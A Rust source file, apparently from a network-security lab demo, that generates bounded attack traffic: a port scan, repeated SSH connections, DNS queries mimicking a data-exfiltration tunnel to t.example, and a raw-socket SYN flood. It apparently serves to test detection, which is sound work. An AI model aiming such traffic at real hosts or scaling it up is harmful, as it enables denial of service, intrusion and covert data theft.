//! The demo's own tools of attack. Each sends a bounded number of packets, and only inside the lab.

use anyhow::{Context, Result};
use decode::build::{Stack, Tcp};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

/// How long a connection may take. The lab has no distance: what takes longer is blocked.
const PATIENCE: Duration = Duration::from_millis(700);
/// Ports that a scan knocks at.
const SCAN_PORTS: std::ops::RangeInclusive<u16> = 1000..=1099;
/// Logins that a guesser tries.
const GUESSES: usize = 10;
/// Names that a tunnel asks for.
const TUNNEL_QUERIES: usize = 40;
/// Opening segments of a flood.
const FLOOD_SEGMENTS: u16 = 1500;

/// A TCP connection from one of the attacker's addresses.
pub fn connect(from: IpAddr, to: SocketAddr) -> Result<TcpStream> {
    let socket = Socket::new(Domain::for_address(to), Type::STREAM, Some(Protocol::TCP))?;
    socket
        .bind(&SocketAddr::new(from, 0).into())
        .with_context(|| format!("cannot send from {from}"))?;
    socket.connect_timeout(&to.into(), PATIENCE)?;
    let stream = TcpStream::from(socket);
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// A request and the first line of its answer.
pub fn http(from: IpAddr, to: SocketAddr, path: &str, headers: &str) -> Result<String> {
    let mut stream = connect(from, to)?;
    let request =
        format!("GET {path} HTTP/1.1\r\nHost: shop.example\r\n{headers}Connection: close\r\n\r\n");
    stream.write_all(request.as_bytes())?;
    let mut answer = [0; 512];
    let len = stream.read(&mut answer)?;
    let answer = String::from_utf8_lossy(answer.get(..len).unwrap_or_default()).into_owned();
    Ok(answer.lines().next().unwrap_or_default().to_owned())
}

/// Knocks at a hundred ports.
pub fn scan(from: IpAddr, to: IpAddr) -> Result<()> {
    let mut open = Vec::new();
    for port in SCAN_PORTS {
        let to = SocketAddr::new(to, port);
        let socket = Socket::new(Domain::for_address(to), Type::STREAM, Some(Protocol::TCP))?;
        socket.bind(&SocketAddr::new(from, 0).into())?;
        socket.set_nonblocking(true)?;
        // In progress, refused, or blocked by now: a scanner goes on.
        let _ = socket.connect(&to.into());
        open.push(socket);
        std::thread::sleep(Duration::from_millis(2));
    }
    Ok(())
}

/// Tries passwords over SSH, each in a connection of its own, until nobody answers.
pub fn guess_passwords(from: IpAddr, to: SocketAddr) -> Result<()> {
    for _ in 0..GUESSES {
        let Ok(mut stream) = connect(from, to) else {
            return Ok(());
        };
        let _ = stream.write_all(b"SSH-2.0-libssh_0.9.6\r\n");
        let mut banner = [0; 64];
        let _ = stream.read(&mut banner);
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

/// Carries data out in the names of DNS queries.
pub fn tunnel(from: IpAddr, to: SocketAddr) -> Result<()> {
    let socket = UdpSocket::bind(SocketAddr::new(from, 0))?;
    for number in 0..TUNNEL_QUERIES {
        let label: String = (0..56)
            .map(|i| char::from(b"abcdefghijklmnopqrstuvwxyz234567"[(number * 7 + i * 11) % 32]))
            .collect();
        let mut query = vec![0x13, number as u8, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        for part in [label.as_str(), "t", "example"] {
            query.push(part.len() as u8);
            query.extend_from_slice(part.as_bytes());
        }
        query.extend_from_slice(&[0, 0, 16, 0, 1]);
        // A blocked sender is told so by nobody: it goes on.
        let _ = socket.send_to(&query, to);
        std::thread::sleep(Duration::from_millis(5));
    }
    Ok(())
}

/// Opens connections and never goes on with them.
pub fn flood(from: IpAddr, to: SocketAddr) -> Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
    let address = SockAddr::from(to);
    for number in 0..FLOOD_SEGMENTS {
        let syn = Tcp::syn(20_000 + number, to.port(), u32::from(number) * 7919);
        let segment = Stack::raw()
            .ipv4(&from.to_string(), &to.ip().to_string())
            .tcp(syn)
            .bytes();
        let _ = socket.send_to(&segment, &address);
        if number % 50 == 0 {
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    Ok(())
}
